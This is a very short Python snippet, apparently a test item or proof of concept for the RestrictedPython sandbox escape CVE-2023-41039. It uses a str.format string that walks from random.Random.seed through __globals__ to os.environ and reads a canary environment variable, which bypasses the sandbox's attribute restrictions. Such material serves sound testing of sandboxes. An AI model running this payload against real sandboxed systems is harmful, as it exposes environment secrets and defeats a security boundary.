# source: RestrictedPython CVE-2023-41039
# effect: environment

import random

print(str.format("{f.__globals__[_os].environ[ASSAY_CANARY]}", f=random.Random.seed))
